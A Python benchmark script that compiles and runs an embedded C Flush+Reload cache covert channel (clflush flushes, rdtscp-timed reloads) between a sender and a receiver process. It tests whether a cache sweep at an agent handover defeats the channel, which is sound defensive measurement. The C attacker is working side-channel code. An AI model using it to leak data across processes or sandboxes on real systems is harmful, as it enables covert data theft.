"""What the lines one process loads tell the next process through the CPU's caches, with and
without the sweep the cutoff gate makes at a backward handover (pipeline/agent_api/cpu_caches.py).

The strongest form of the attack, in C (agent code could run machine code through ctypes): a
first process flushes one line of each of 256 pages of a file both map (clflush), a sender loads
the lines of the pages whose bit is 1 and exits, then a receiver times its first load of each line
(rdtscp) and reads a 1 where it is fast (Flush+Reload, Yarom and Falkner, USENIX Security 2014).
Between sender and receiver the parent does nothing, sleeps, or sweeps. Prints the receiver's
accuracy over every trial's bits (0.5 is chance) and the sweep's time.

    .venv/bin/python bench/cache_residue.py [--trials 20]

x86_64 with gcc only (the bench compiles its attacker into a temporary directory).
"""

from __future__ import annotations

import argparse
import platform
import random
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from common import machine
from pipeline.agent_api.cpu_caches import sweep_cpu_caches

PAGES = 256
PAGE = 4096

ATTACKER = r"""
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>
#include <x86intrin.h>

#define PAGES 256
#define PAGE 4096

/* Pages in an order of each process's own: a regular stride lets the prefetchers load lines
   no one asked for (seen here: half the 0s read as 1s). */
static int order[PAGES];
static void shuffle(unsigned seed) {
    srand(seed);
    for (int i = 0; i < PAGES; i++) order[i] = i;
    for (int i = PAGES - 1; i > 0; i--) { int j = rand() % (i + 1), t = order[i]; order[i] = order[j]; order[j] = t; }
}

static uint64_t timed_load(volatile const uint8_t *p) {
    unsigned aux;
    _mm_mfence();
    uint64_t start = __rdtscp(&aux);
    (void)*p;
    uint64_t end = __rdtscp(&aux);
    _mm_mfence();
    return end - start;
}

int main(int argc, char **argv) {
    shuffle(getpid());
    int fd = open(argv[2], O_RDONLY);
    const uint8_t *map = mmap(0, PAGES * PAGE, PROT_READ, MAP_SHARED | MAP_POPULATE, fd, 0);
    if (map == MAP_FAILED) return 2;
    if (!strcmp(argv[1], "flush")) {
        for (int i = 0; i < PAGES; i++) _mm_clflush(map + i * PAGE);
        _mm_mfence();
    } else if (!strcmp(argv[1], "send")) {  /* argv[3]: the bits, '0' or '1' per page */
        for (int j = 0; j < PAGES; j++)
            if (argv[3][order[j]] == '1') (void)*(volatile const uint8_t *)(map + order[j] * PAGE);
    } else {  /* receive: a threshold from a line of its own, hit and missed */
        static uint8_t own[64 * 64];
        uint64_t hit = 0, miss = 0;
        for (int k = 0; k < 64; k++) {
            (void)*(volatile uint8_t *)own; hit += timed_load(own);
            _mm_clflush(own); _mm_mfence(); miss += timed_load(own);
        }
        uint64_t threshold = (hit + miss) / 128;
        char bits[PAGES + 1]; bits[PAGES] = 0;
        for (int j = 0; j < PAGES; j++)
            bits[order[j]] = timed_load(map + order[j] * PAGE) < threshold ? '1' : '0';
        puts(bits);
    }
    return 0;
}
"""


def attacker(directory: Path) -> Path:
    source, binary = directory / "attacker.c", directory / "attacker"
    source.write_text(ATTACKER)
    subprocess.run(["gcc", "-O2", "-msse2", "-o", str(binary), str(source)], check=True)
    return binary


def trial(binary: Path, shared: Path, between: str, rng: random.Random) -> tuple[int, float]:
    """The receiver's correct bits of one trial, and the seconds the parent spent between."""
    bits = "".join(rng.choice("01") for _ in range(PAGES))
    subprocess.run([binary, "flush", shared], check=True)
    subprocess.run([binary, "send", shared, bits], check=True)
    started = time.monotonic()
    if between == "sweep":
        sweep_cpu_caches()
    elif between == "sleep":
        time.sleep(0.2)
    spent = time.monotonic() - started
    received = subprocess.run([binary, "receive", shared], check=True, capture_output=True, text=True).stdout.strip()
    return sum(a == b for a, b in zip(bits, received, strict=True)), spent


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--trials", type=int, default=20)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    if platform.machine() != "x86_64":
        sys.exit("bench/cache_residue.py: the attacker is x86_64 code")
    print(machine({}))
    rng = random.Random(args.seed)
    with tempfile.TemporaryDirectory() as tmp:
        directory = Path(tmp)
        binary = attacker(directory)
        shared = directory / "shared.bin"
        shared.write_bytes(rng.randbytes(PAGES * PAGE))
        shared.read_bytes()  # in the page cache: the pages every process maps are the same memory
        results = {between: [0, 0.0] for between in ("nothing", "sleep", "sweep")}
        for _ in range(args.trials):  # interleaved, so that the machine's load falls on each alike
            for between, total in results.items():
                correct, spent = trial(binary, shared, between, rng)
                total[0] += correct
                total[1] += spent
    bits = args.trials * PAGES
    baseline = results["nothing"][0] / bits
    for between, (correct, spent) in results.items():
        accuracy = correct / bits
        print(
            f"between sender and receiver: {between:<8} accuracy {accuracy:.3f} over {bits} bits "
            f"(ratio to nothing: {accuracy / baseline:.2f}); {spent / args.trials * 1000:.0f} ms a trial"
        )


if __name__ == "__main__":
    main()
